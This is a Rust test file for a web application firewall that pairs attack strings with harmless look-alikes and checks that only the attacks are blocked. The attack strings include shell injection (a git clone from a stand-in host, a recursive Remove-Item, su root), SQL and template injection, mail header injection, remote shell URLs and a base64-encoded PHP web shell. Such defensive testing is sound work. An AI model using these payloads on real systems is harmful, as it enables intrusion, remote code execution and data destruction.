//! Attacks and what resembles them: in each place where both may stand, the one is stopped, the other passes.

use super::{Spot, put};
use crate::waf::{Settings, Verdict};

const PAIRS: &[(&str, &str)] = &[
    // Shell: conditions, loops, and programs behind a separator that starts the value.
    (
        "127.0.0.1;[ -w /tmp ] && touch /tmp/x",
        "tea; [optional] milk && sugar",
    ),
    (
        "; until false; do sleep 1; done",
        "if you stop; then we go; do it",
    ),
    (
        "; git clone http://203.0.113.9/x",
        "; git is configured below",
    ),
    ("; service ssh restart", "& service charge 10%"),
    (
        "; Remove-Item -Recurse C:\\inetpub",
        "; set-up fees and add-ons",
    ),
    (";su - root", "bahasa su; id"),
    ("8.8.8.8 -c 2;ls", "option - c; id number"),
    // SQL: numbers as programs write them, statements of the dialects, comments that say something.
    ("2 or 0b10", "0x10 or 0x20"),
    ("root' -- ignored", "boys' -- toys"),
    ("3;select foo(1)", "Step 1; select file(s)"),
    ("1; EXEC AS USER 'dbo'; GO", "1; execute as planned"),
    ("1; delete quick from users", "2. delete quick notes"),
    (
        "-1 union select top 5 name from sysobjects",
        "union select top 10 players",
    ),
    (
        "1;SET PASSWORD FOR root='x'",
        "1; set password to a strong one",
    ),
    ("1;SET ROLE postgres", "set role models"),
    // XPath: paths on both sides of a bar.
    ("'|//user|'", "yes | no // maybe"),
    ("*|//account", "/home|/shop"),
    // Templates and code.
    ("$os.popen('id').read()", "$os"),
    (
        "$x.class.classLoader.loadClass(\"a\")",
        "this.class.classLoader",
    ),
    ("${base64Decoder:c2NyaXB0}", "${const}"),
    ("{{joiner}}", "joiner"),
    ("(string){[system][0]}('id')", "(string) $x"),
    ("$where=function(){return true}", "where=function"),
    // Mail.
    (
        "Contact form\nBcc: x@oob.example",
        "Dear all,\nwrite to me@example.com\nthanks",
    ),
    (
        "hello world\r\nRCPT TO:<x@evil.example>",
        "hello world\r\nsend it to me@example.com",
    ),
    (
        "subject\r\n.\r\nEHLO evil.example",
        "subject\r\n.\r\nhelo everyone here",
    ),
    // Algebra, catalogues that are looked up, servers of other protocols, pages that people link to.
    ("1 or 1 = 1", "1 XOR 1 = 0"),
    ("0 xor 1=1", "0 or 1 = 1"),
    ("1011 or 1 = 1", "1010 XOR 0110 = 1100"),
    ("1 AND 0 = 0, 1 OR 1 = 1", "1 AND 0 = 0, 1 OR 0 = 1"),
    ("alert (2009)", "alert (2009 film)"),
    ("<?php phpinfo();", "<?php short tag disabled"),
    (
        "use <%@ page import=\"x\" %><% out.print(1) %>",
        "Use <%@ page isELIgnored=\"false\" %> at the top.",
    ),
    (
        "T(java.lang.Runtime).getRuntime()",
        "T(java.time.LocalDate).now()",
    ),
    (
        "{$smarty.version}",
        "{$smarty.now|date_format:\"%d %B %Y\"}",
    ),
    (
        "information_schema.tables",
        "information_schema.tables columns",
    ),
    (
        "smtp://127.0.0.1:25/",
        "smtp://mail.example.com:587?tls=required",
    ),
    ("redis://10.0.0.5:6379", "redis://cache.example.com:6379/0"),
    (
        "http://evil.example/shell.php",
        "https://www.education.pa.gov/Pages/Teachers.php",
    ),
    (
        "http://203.0.113.9/a/cmd.aspx",
        "https://www.example.com/Pages/Education/Teachers.aspx",
    ),
    (
        "') or contains(name,'a",
        "Scrapy: css('div').getall() vs response.xpath('//div[1]/text()') differ",
    ),
    // What a picture's data cannot begin with.
    (
        "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAf",
    ),
];

#[test]
fn attacks_are_told_from_what_resembles_them() {
    let settings = Settings::default();
    for (attack, honest) in PAIRS {
        for spot in [Spot::Form, Spot::Json] {
            assert_eq!(
                put(&settings, spot, attack).verdict,
                Verdict::Blocked,
                "{attack}"
            );
            assert_ne!(
                put(&settings, spot, honest).verdict,
                Verdict::Blocked,
                "{honest}"
            );
        }
    }
}

#[test]
fn keys_in_brackets_are_read() {
    let settings = Settings::default();
    let query = |query: &str| super::look(&settings, "/", query, &[], None).verdict;
    assert_eq!(query("id[1%27%20or%20sleep(4)%23]=x"), Verdict::Blocked);
    assert_eq!(query("filter[price.min]=1&sort[]=name"), Verdict::Clean);
}
